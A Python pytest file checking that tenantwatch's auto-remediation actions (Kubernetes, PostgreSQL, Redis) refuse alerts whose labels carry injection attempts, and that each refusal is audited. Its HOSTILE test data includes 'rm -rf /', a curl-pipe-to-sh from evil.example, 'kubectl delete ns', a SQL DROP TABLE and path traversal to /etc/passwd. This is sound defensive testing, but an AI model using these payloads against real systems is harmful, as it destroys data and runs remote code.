"""Hostile alert labels reaching L1 auto-remediation through the real intake.

Every allowlisted action runs for real (dry_run off) against real local parts: a recording
Kubernetes API, the PostgreSQL server with a long query to cancel, redis-server with keys to
evict, all wired through the engine's own client settings. An alert whose labels carry
injection attempts must make none of them act (no Kubernetes call, no SQL signal, no key
gone, no process started); the refusal is audited with its reason and shows in the incident's
timeline. A plain alert, the control, makes each action act, so "nothing happened" means
the guard stopped it, not broken wiring.
"""

from __future__ import annotations

import sys
import threading
from dataclasses import dataclass, field
from http.server import ThreadingHTTPServer
from typing import Any, Iterator

import pytest
import redis

from tenantwatch.engine.clock import FakeClock
from tenantwatch.engine.store import Store
from tenantwatch.remediation import ACTIONS
from tenantwatch.remediation.clients import KUBE_HOST_VAR, PG_DSN_VAR, REDIS_URL_VAR, libpq_dsn
from tests.engine.conftest import T0, Engine, alert, build_engine, make_spec
from tests.remediation.kube_recorder import KubeRecorder
from tests.remediation.slow_query import SlowQuery

pytestmark = pytest.mark.postgres

HOSTILE = {
    "shell": "api; rm -rf / #",
    "command-substitution": "$(curl http://evil.example/x | sh)",
    "backticks": "`reboot`",
    "newline": "api\nkubectl delete ns tenant-globex",
    "nul": "api\x00--all",
    "path-traversal": "../../etc/passwd",
    "sql-quote": "api'; DROP TABLE incidents; --",
    "matcher-breaker": 'api"} or up{tenant=~".+',
    "10kB": "a" * 10_240,
    "lookalike": "аpi",  # Cyrillic а
}
PLAIN = "api-7d9f8-x2k4q"
# The label an attacker would expect each action to read its target from.
TARGET_LABEL = {"restart_deployment": "deployment", "scale_deployment": "deployment",
                "cancel_slow_queries": "datname", "redis_evict": "pattern"}
RULE_PARAMS = {
    "restart_deployment": {"deployment": "api"},
    "scale_deployment": {"deployment": "api", "step": 1, "max_replicas": 5},
    "cancel_slow_queries": {"older_than": "100ms", "datname": "tenantwatch"},
    "redis_evict": {"pattern": "{tenant}:cache:*"},
}
# Every action the product has is probed: a new one fails here until it is added above.
assert set(RULE_PARAMS) == set(ACTIONS)


class ProcessAudit:
    """Python's audit hooks see every process start; a hook cannot be removed, so one is
    installed for the session and records only while `watching`."""

    EVENTS = ("subprocess.Popen", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "os.fork")

    def __init__(self) -> None:
        self.watching = False
        self.started: list[str] = []
        sys.addaudithook(self._hook)

    def _hook(self, event: str, args: tuple[Any, ...]) -> None:
        if self.watching and event in self.EVENTS:
            self.started.append(event)


PROCESSES = ProcessAudit()


@dataclass
class Targets:
    """The systems the actions act on, and how to tell whether one was touched."""

    kube: KubeRecorder
    cache: redis.Redis
    query: SlowQuery
    dsn: str
    environ: dict[str, str] = field(default_factory=dict)

    def touched(self, action: str, within: float) -> bool:
        """Kubernetes and Redis calls are done when the pass returns; a cancel reaches a
        sleeping PostgreSQL backend within milliseconds, so `within` bounds only that wait."""
        if action in ("restart_deployment", "scale_deployment"):
            return bool(self.kube.calls)
        if action == "redis_evict":
            return self.cache.exists("acme:cache:1") == 0
        return self.query.finished.wait(within)


@pytest.fixture
def targets(postgres_url: str, redis_url: str) -> Iterator[Targets]:
    kube = KubeRecorder(replicas=2)
    cache = redis.Redis.from_url(redis_url)
    cache.flushdb()
    cache.set("acme:cache:1", b"x")
    dsn = libpq_dsn(postgres_url)
    query = SlowQuery(dsn, 60)
    with ThreadingHTTPServer(("127.0.0.1", 0), kube.handler()) as server:
        serving = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        serving.start()
        kube.host = f"http://127.0.0.1:{server.server_address[1]}"
        try:
            query.wait_running_longer_than(dsn, 0.2)
            yield Targets(kube, cache, query, dsn,
                          {KUBE_HOST_VAR: kube.host, PG_DSN_VAR: postgres_url, REDIS_URL_VAR: redis_url})
        finally:
            server.shutdown()
            serving.join(timeout=5)
            query.stop(dsn)
            cache.flushdb()
            cache.close()


def engine_for(store: Store, action: str, targets: Targets) -> Engine:
    spec = make_spec(remediation={"dry_run": False, "rules": [
        {"match": {"service": "api", "category": "saturation"}, "action": action, "params": RULE_PARAMS[action]}]})
    return build_engine(store, spec, FakeClock(T0), environ=targets.environ)


def fire(engine: Engine, labels: dict[str, str]) -> tuple[int, list[tuple[str, str]]]:
    """Post the alert through the webhook and run the L1 pass; (webhook status, remediations)."""
    response = engine.post([alert(service="api", name="CpuSaturation", category="saturation", **labels)])
    PROCESSES.watching = True
    try:
        report = engine.tick()
    finally:
        PROCESSES.watching = False
    return response.status_code, report.remediations


def remediation_lines(engine: Engine) -> list[str]:
    [incident] = engine.incidents("acme")
    return [entry["detail"] for entry in incident["timeline"] if entry["kind"] == "remediation"]


@pytest.mark.parametrize("action", sorted(RULE_PARAMS))
def test_a_plain_alert_makes_the_action_act(sqlite_store: Store, targets: Targets, action: str) -> None:
    engine = engine_for(sqlite_store, action, targets)
    status, done = fire(engine, {TARGET_LABEL[action]: PLAIN})
    assert status // 100 == 2
    assert done == [(action, "ok")], remediation_lines(engine)
    assert targets.touched(action, within=10)


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("action", sorted(RULE_PARAMS))
def test_a_hostile_label_makes_no_action_act_and_the_refusal_is_audited(
        sqlite_store: Store, targets: Targets, action: str, kind: str) -> None:
    engine = engine_for(sqlite_store, action, targets)
    label = TARGET_LABEL[action]
    PROCESSES.started.clear()
    status, done = fire(engine, {label: HOSTILE[kind]})

    assert not targets.touched(action, within=0.5), f"{action} acted on an alert with a hostile {label} label"
    assert PROCESSES.started == []
    if status // 100 == 4:  # the intake itself refused the alert: nothing to remediate
        assert engine.incidents("acme") == [] and done == []
        return
    assert status // 100 == 2
    assert done == [(action, "refused")]
    [line] = remediation_lines(engine)
    assert line.startswith(f"{action}: refused: label {label} refused"), line
    audit = engine.client.get("/api/v1/audit", headers=engine.auth("acme")).json()["items"]
    [run] = [entry["detail"] for entry in audit if entry["action"] == "remediation"]
    assert run["status"] == "refused" and run["plan"] is None and run["refused"].startswith(f"label {label} refused")
    assert HOSTILE[kind] not in run["refused"]  # the reason names the label, never repeats the payload whole
    metrics = engine.client.get("/metrics").text
    assert f'tenantwatch_remediations_total{{action="{action}",outcome="refused"}} 1.0' in metrics
